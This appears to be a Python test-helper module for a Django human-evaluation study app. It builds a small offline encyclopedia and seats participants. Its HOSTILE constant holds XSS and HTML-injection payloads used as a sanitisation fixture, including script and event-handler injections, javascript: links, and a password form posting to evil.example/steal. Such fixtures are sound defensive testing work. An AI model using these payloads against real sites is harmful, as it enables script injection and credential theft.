"""Volunteers of studies, for tests: open studies with a small encyclopedia, and people who came in by their links."""

import datetime
import re
from pathlib import Path
from typing import Any, Final

from django.test import Client
from django.utils import timezone

from humaneval.answering import consent, session
from humaneval.encyclopedia.zim_writer import NewArticle, build
from humaneval.models import Invitation, Participant, Study
from humaneval.participants.invitations import invite, path_of
from leaderboard.models import User
from scoring.generations.keys import IN_KEYS
from scoring.models import Run
from scoring.runs.judging import items as judged_items
from tests import factories
from tests.factories import CAPITALS

NOTHING_THERE: Final = "mediawiki:http://127.0.0.1:9/w/api.php#date=2023-11-20"
"""An encyclopedia that does not answer: nothing listens on the port of the discard service."""

HOSTILE: Final = """
<script>window.hacked = 1; parent.hacked = 1; top.hacked = 1</script>
<meta http-equiv="refresh" content="0;url=/accounts/sign-in/">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
<style>body { background: red !important } * { display: none }</style>
<p onclick="parent.hacked = 1" style="position:fixed;inset:0">Plain words stay.</p>
<p><a href="javascript:parent.hacked=1">a trap</a> and <a href="data:text/html,<script>1</script>">another</a></p>
<p><a href="https://evil.example/leave" target="_top">the way out</a></p>
<form action="https://evil.example/steal"><input name="password" autofocus><button>Send</button></form>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>
<img src="x" onerror="parent.hacked = 1"><img src="https://evil.example/beacon.png">
<svg onload="parent.hacked = 1"><script>parent.hacked = 1</script></svg><math><mtext><style><img src=x onerror=alert(1)>
</style></mtext></math></textarea></iframe><p id="answer" name="answer">An id that the page has too.</p>
"""


def giant_table(rows: int = 400, columns: int = 40) -> str:
    """A table that is far wider and longer than any screen."""
    row = "<tr>" + "".join(f"<td>Cell_number_{n}_without_a_break</td>" for n in range(columns)) + "</tr>"
    return f"<table>{row * rows}</table>"


def articles() -> list[NewArticle]:
    """One article for each country of `factories.CAPITALS` and for its capital, linked to each other; one hostile."""
    made = []
    for index, (country, capital) in enumerate(CAPITALS.items()):
        filling = "".join(f"<p>Paragraph {n} says nothing of note about trees and rivers.</p>" for n in range(30))
        made.append(
            NewArticle(
                country,
                f"<p>{country} is a country. Its capital is <a href='{capital}'>{capital}</a>.</p>"
                f"<p>See <a href='https://outside.example/{country}'>its own pages</a>.</p>"
                f"<h2>Geography</h2>{filling}<h2>Government</h2><p>The government of {country} sits in {capital}.</p>",
                page_id=index + 1,
                revision_id=1,
                url=f"https://en.wikipedia.org/wiki/{country}",
            )
        )
        made.append(NewArticle(capital, f"<p>{capital} is the capital of <a href='{country}'>{country}</a>.</p>"))
    made.append(NewArticle("Hostile article", HOSTILE + giant_table()))
    return made


def encyclopedia(directory: Path) -> str:
    """The address of a small encyclopedia in a folder."""
    file = directory / "small.zim"
    if not file.exists():
        build(file, articles(), title="Small encyclopedia", made=datetime.date(2023, 11, 20))
    return f"zim:{file}"


def open_study(
    owner: User | None = None, *, encyclopedia: str = NOTHING_THERE, n_test: int = 4, **fields: Any
) -> Study:
    """A study on the hidden split that is open now."""
    benchmark = factories.benchmark(n_test=n_test)
    usual: dict[str, Any] = {"opens_at": timezone.now() - datetime.timedelta(hours=1), "seats": 5}
    owner = owner or factories.user("keeper")
    split = factories.split(benchmark, "test")
    return factories.study(owner, split, **(usual | {"encyclopedia": encyclopedia} | fields))


def link(study: Study, **fields: Any) -> Invitation:
    """A link into a study."""
    return invite(study, by=study.owner, **fields)


def come_in(client: Client, invitation: Invitation) -> Participant:
    """Come by a link, as a browser does; the client has the cookie then."""
    response = client.post(path_of(invitation))
    assert response.status_code == 302, response.content.decode()
    invitation.refresh_from_db()
    return Participant.objects.select_related("study").latest("joined_at")


def seated(client: Client, study: Study, invitation: Invitation | None = None) -> Participant:
    """Somebody who came in, agreed, read the instructions and passed the practice question over."""
    participant = come_in(client, invitation or link(study))
    assert consent.give_consent(participant, digest=consent.consent_digest(study))
    session.leave(participant, "instructed_at")
    session.leave(participant, "practised_at")
    return Participant.objects.select_related("study").get(pk=participant.pk)


def csrf_token(page: bytes) -> str:
    """The token of a page's forms."""
    found = re.search(rb'name="csrfmiddlewaretoken" value="(\w+)"', page)
    assert found is not None
    return found[1].decode()


def judge_address(run: Run, code: str) -> str:
    """What a judge's verdict on the first answer of a participant is filed under."""
    items = judged_items.items_of(run)[1]
    return next(one for one in items if one.key.endswith(f"{IN_KEYS}{code}")).address(judged_items.settings_of(run))
